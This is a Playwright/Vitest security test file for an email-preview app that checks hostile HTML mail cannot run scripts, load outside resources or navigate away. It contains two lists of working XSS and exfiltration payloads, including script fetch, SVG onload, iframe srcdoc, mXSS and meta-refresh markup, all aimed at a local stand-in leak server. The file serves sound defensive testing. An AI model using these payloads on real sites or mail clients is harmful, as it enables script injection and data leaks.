import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest'
import { launchBrowser } from '../support/browser.ts'
import { eventually, openInbox, row, settled } from '../support/inbox-page.ts'
import { sendMail } from '../support/send-mail.ts'
import { startServer } from '../support/server.ts'

let browser: Browser
beforeAll(async () => {
  browser = (await launchBrowser()).browser
})
afterAll(() => browser.close())

/** A site of the attacker: every request that reaches it is a leak. */
async function startLeakSite(): Promise<{ origin: string; requests: string[] }> {
  const requests: string[] = []
  const site = createServer((request, response) => {
    requests.push(request.url ?? '')
    // Without content, a navigation is asked for and the page stays: so all attacks get their turn.
    response.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end()
  }).listen(0, '127.0.0.1')
  await once(site, 'listening')
  onTestFinished(() => void site.close())
  return { origin: `http://127.0.0.1:${(site.address() as AddressInfo).port}`, requests }
}

/** Ways to run, fetch or navigate that work by themselves in a page without defence: path of `LEAK` and markup. */
const SURE_ATTACKS = [
  ['/refresh', '<meta http-equiv="refresh" content="0;url=LEAK/refresh">'],
  ['/base/x', '<base href="LEAK/base/"><img src="x">'],
  ['/stylesheet', '<link rel="stylesheet" href="LEAK/stylesheet">'],
  ['/import', '<style>@import url("LEAK/import");</style>'],
  ['/css', '<style>p { background: url(LEAK/css) }</style><p>x</p>'],
  [
    '/inline',
    '<div style="background-image:url(LEAK/inline);position:fixed;inset:0;pointer-events:none">x</div>',
  ],
  ['/script', '<script>fetch("LEAK/script")</script>'],
  ['/script-src', '<script src="LEAK/script-src"></script>'],
  ['/top', '<script>top.document.title = "taken"; top.location = "LEAK/top"</script>'],
  ['/background', '<table background="LEAK/background"><tr><td>x</td></tr></table>'],
  ['/img', '<img src="LEAK/img">'],
  ['/srcset', '<img src="data:," srcset="LEAK/srcset 1x">'],
  ['/onerror', `<img src="data:," onerror="fetch('LEAK/onerror')">`],
  ['/svg', `<svg onload="fetch('LEAK/svg')"></svg>`],
  ['/svg-image', '<svg><image href="LEAK/svg-image"/></svg>'],
  ['/svg-script', '<svg><script>fetch("LEAK/svg-script")</script></svg>'],
  ['/iframe', '<iframe src="LEAK/iframe"></iframe>'],
  ['/srcdoc', `<iframe srcdoc="<script>fetch('LEAK/srcdoc')</script>"></iframe>`],
  ['/object', '<object data="LEAK/object"></object>'],
  ['/embed', '<embed src="LEAK/embed">'],
  ['/poster', '<video poster="LEAK/poster" autoplay></video>'],
  ['/input', '<input type="image" src="LEAK/input">'],
  ['/focus', `<input autofocus onfocus="fetch('LEAK/focus')">`],
  ['/toggle', `<details open ontoggle="fetch('LEAK/toggle')"><summary>x</summary></details>`],
] as const

/** Ways that need a click, or a weakness that Chromium may not have today. */
const MORE_ATTACKS = `<body onload="fetch('LEAK/onload')">
<link rel="prefetch" href="LEAK/prefetch"><link rel="dns-prefetch" href="LEAK">
<style>@font-face { font-family: f; src: url(LEAK/font) } p { font-family: f }</style>
<svg><use href="LEAK/use#x"/></svg><audio src="LEAK/audio" autoplay></audio><video src="LEAK/video"></video>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('LEAK/mxss')&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=fetch('LEAK/noscript')>"></noscript>
<xmp><img src=x onerror="fetch('LEAK/xmp')"></xmp><template><img src="LEAK/template"></template>
<form action="LEAK/form"><button>Send</button></form>
<a href="javascript:fetch('LEAK/javascript')">Script link</a><a href="LEAK/link" ping="LEAK/ping">Outside link</a>`

test('the attacks are real: on a page without defence each reaches the attacker', async () => {
  const leak = await startLeakSite()
  const context = await browser.newContext()
  onTestFinished(() => context.close())
  for (const [path, markup] of SURE_ATTACKS) {
    const page = await context.newPage()
    await page.setContent(markup.replaceAll('LEAK', leak.origin), { waitUntil: 'commit' })
    await eventually(() => leak.requests, path).toContain(path)
    await page.close()
  }
})

test('hostile HTML: nothing runs, nothing is fetched, nothing leads away', async () => {
  const leak = await startLeakSite()
  const server = await startServer()
  const attacks = `${MORE_ATTACKS}<p>What Bob may read</p>${SURE_ATTACKS.map(([, markup]) => markup).join('\n')}`
  await sendMail(server, { subject: 'Hostile', html: attacks.replaceAll('LEAK', leak.origin) })
  const page = await openInbox(browser, server.httpUrl, {
    errors: /sandboxed|Content Security Policy|blocked/i,
  })
  const asked = watch(page)
  await row(page, 'Hostile').click()
  const frame = page.frameLocator('iframe[title^="Preview"]')
  await frame.getByText('What Bob may read').waitFor()
  await settled(page)
  for (const button of await frame.locator('form button, input, summary').all())
    await button.click({ force: true })
  await settled(page)

  expect(leak.requests).toEqual([])
  expect(asked.filter((url) => !url.startsWith(server.httpUrl))).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
  expect(new URL(page.url()).pathname).toMatch(/^\/i\/default\/m\/[\w-]+$/)
  expect(await page.title()).toContain('Stagingpost')
})

test('a link leads to the page that shows its target, in another tab, and not further', async () => {
  const leak = await startLeakSite()
  const server = await startServer()
  const html = `<p><a href="${leak.origin}/reset?token=1">Choose a new password</a></p>`
  await sendMail(server, { subject: 'Reset', html, text: `Open ${leak.origin}/from-text now` })
  const page = await openInbox(browser, server.httpUrl)
  await row(page, 'Reset').click()
  await expectOpenPage(page, () =>
    page.frameLocator('iframe').getByRole('link', { name: 'Choose a new password' }).click(),
  )
  await page.getByRole('tab', { name: 'Text', exact: true }).click()
  await expectOpenPage(page, () =>
    page.getByRole('link', { name: `${leak.origin}/from-text`, exact: true }).click(),
  )
  expect(leak.requests).toEqual([])

  async function expectOpenPage(from: Page, press: () => Promise<void>) {
    const popup = from.waitForEvent('popup')
    await press()
    const opened = await popup
    await opened.getByText(new URL(leak.origin).host).first().waitFor()
    expect(opened.url()).toMatch(new RegExp(`^${server.httpUrl}/open\\?`))
    expect(await opened.evaluate('window.opener')).toBeNull()
    await opened.close()
  }
})

test('markup in subject, names, text, file names and headers is shown as text', async () => {
  const server = await startServer()
  const markup = '<img src=x onerror="document.title=1"><b>bold</b>'
  await sendMail(server, {
    subject: `Subject ${markup}`,
    from: { name: `Name ${markup}`, address: 'app@shop.example' },
    text: `Text ${markup} {{7*7}} <script>document.title = 1</script>`,
    headers: { 'X-Note': `Header ${markup}` },
    attachments: [{ filename: `File ${markup}.txt`.replaceAll('/', '_'), content: 'x' }],
  })
  const page = await openInbox(browser, server.httpUrl)
  await row(page, `Subject ${markup}`).click()
  await page.getByRole('heading', { name: `Subject ${markup}` }).waitFor()
  await page.getByText(`Name ${markup}`).last().waitFor()
  await page.getByText(`Text ${markup} {{7*7}} <script>`).last().waitFor()
  await page.getByRole('tab', { name: 'Headers' }).click()
  await page.getByText(`Header ${markup}`).waitFor()
  await page.getByRole('tab', { name: /Attachments/ }).click()
  await page.getByText(/^File <img src=x onerror/).waitFor()
  await page.getByRole('tab', { name: 'Raw', exact: true }).click()
  await page.getByRole('region', { name: 'Raw message' }).getByText('MIME-Version').waitFor()
  expect(await page.locator('img, b:text-is("bold")').count()).toBe(0)
  expect(await page.title()).toContain('Stagingpost')
})

/** Every request of the page and its frames from now on. */
function watch(page: Page): string[] {
  const urls: string[] = []
  page.on('request', (request) => urls.push(request.url()))
  return urls
}
